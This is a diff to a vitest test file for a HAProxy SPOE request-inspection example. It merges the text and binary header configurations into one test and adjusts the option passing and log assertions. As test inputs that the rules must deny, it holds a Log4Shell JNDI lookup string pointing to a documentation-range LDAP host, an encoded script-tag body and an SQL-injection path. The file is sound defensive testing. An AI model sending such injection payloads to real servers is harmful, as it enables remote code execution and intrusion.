@@ -6,21 +6,19 @@ import { describeHaproxies, stopAfterTest } from '@spop-internal/testbed/vitest'
 import { expect, it } from 'vitest';
 import { Origin } from '@spop-internal/testbed/origin';
 import { AGENT, ask, chunked, DENIED, PASSED, sendRaw, SQL, startBoth, startSite } from './testing.ts';
-import { summaryOf, writeRules } from './testing.ts';
+import { configWith, summaryOf, writeRules } from './testing.ts';
 
 const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
 const SCRIPT = [403, 'deny', '941100', '1', 'rules'];
 
 describeHaproxies('the request inspection example', (release) => {
-  it.each(['spoe-request-inspection.conf', 'spoe-request-inspection-bin.conf'])(
-    'denies what the rules find in requests and responses, with %s',
-    async (SPOE_CONF) => {
-      const { haproxy, running } = await startBoth(release, {}, { SPOE_CONF });
+  it('denies what the rules find in requests and responses, with headers as text and as bytes', async () => {
+    const { haproxy: asText, running } = await startBoth(release);
+    const config = await configWith({ conf: 'spoe-request-inspection-bin.conf' });
+    const { haproxy: asBytes } = await startBoth(release, { running, config });
+    for (const haproxy of [asText, asBytes]) {
       expect(await ask(haproxy, { path: '/items?q=union+of+select+committees' })).toEqual(PASSED);
       expect(await ask(haproxy, { path: SQL })).toEqual(DENIED);
-      await running.agent.says(
-        /request denied: id=".{36}" client=192\.0\.2\.1 score=5 rules=942100 "SQL.*" "GET \/items"/,
-      );
       const log4j = { 'user-agent': '${jndi:ldap://192.0.2.9/a}' };
       expect(await ask(haproxy, { headers: log4j })).toEqual([403, 'deny', '944150', '1', 'rules']);
       expect(await ask(haproxy, { headers: FORM, body: 'a=b&c=%3Cscript%3e' })).toEqual(SCRIPT);
@@ -33,10 +31,15 @@ describeHaproxies('the request inspection example', (release) => {
       // Of a body that is larger than its buffer the rules see the beginning.
       const seen = [200, undefined, '200004', '0', 'rules'];
       expect(await ask(haproxy, { headers: FORM, body: 'a=b&'.repeat(12_000) })).toEqual(seen);
-      await running.agent.says(/end of a request body not seen: cut, 1 times so far/);
-      await haproxy.says(/ 200 .* action=- detected=- score=3\/0 rules=200004 whole=0\/1 paired=1 by=rules spoe=-/);
-    },
-  );
+      await haproxy.says(
+        / 200 .* action=- detected=- score=3\/0 by-rule=- hits=1 rules=200004 whole=0\/1 paired=1 by=rules spoe=-/,
+      );
+    }
+    await running.agent.says(
+      /request denied: id=".{36}" client=192\.0\.2\.1 score=5 rules=942100 "SQL.*" "GET \/items"/,
+    );
+    await running.agent.says(/end of a request body not seen: cut, 1 times so far/);
+  });
 
   it("keeps coraza-spoa's configuration", async () => {
     const RULES = await writeRules(`
@@ -78,7 +81,7 @@ describeHaproxies('the request inspection example', (release) => {
   it('finds the request of each response, with many at once', async () => {
     const rules = Array.from({ length: 9 }, (_, n) => `rule ${n + 1} Number\n in argument.n\n is ${n + 1}\n score 1`);
     const RULES = await writeRules([...rules, 'rule 100 All\n in status\n is 200\n score 1'].join('\n'));
-    const { haproxy } = await startBoth(release, { RULES });
+    const { haproxy } = await startBoth(release, { env: { RULES } });
     const client = connectAs('192.0.2.1', haproxy);
     await Promise.all(
       Array.from({ length: 200 }, async (_, at) => {
@@ -93,15 +96,15 @@ describeHaproxies('the request inspection example', (release) => {
   });
 
   it('detects without a word to the client where it is told to', async () => {
-    const { haproxy } = await startBoth(release, { DETECT_ONLY: '1' });
+    const { haproxy } = await startBoth(release, { env: { DETECT_ONLY: '1' } });
     expect(await ask(haproxy, { path: SQL })).toEqual([200, undefined, '942100', '1', 'rules']);
-    await haproxy.says(/ 200 .* action=- detected=deny score=5\/0 rules=942100/);
+    await haproxy.says(/ 200 .* action=- detected=deny score=5\/0 by-rule=942100 hits=1 rules=942100/);
   });
 
   it('takes up other rules while requests come, without losing one, and stays with the last good ones', async () => {
     const rules = (word: string): string => `rule 1 A word\n in argument\n contains ${word}, always\n deny`;
     const RULES = await writeRules(rules('one'));
-    const { haproxy, running } = await startBoth(release, { RULES });
+    const { haproxy, running } = await startBoth(release, { env: { RULES } });
     const client = connectAs('192.0.2.1', haproxy);
     let isOver = false;
     const seen: Record<string, number> = {};
@@ -160,7 +163,7 @@ describeHaproxies('the request inspection example', (release) => {
       response.setHeader('content-length', 20).end('<title>Index of /</t');
     };
     const site = stopAfterTest(await Origin.serve((_, response) => void answerLater(response)));
-    const { haproxy, running } = await startBoth(release, { MAX_KNOWN_REQUESTS: '1' }, {}, site);
+    const { haproxy, running } = await startBoth(release, { env: { MAX_KNOWN_REQUESTS: '1' }, site: site.address });
     const answers = [ask(haproxy, { path: '/?a=1' }), ask(haproxy, { path: '/?a=2' })];
     await expect.poll(() => waiting).toBe(2);
     resolve();
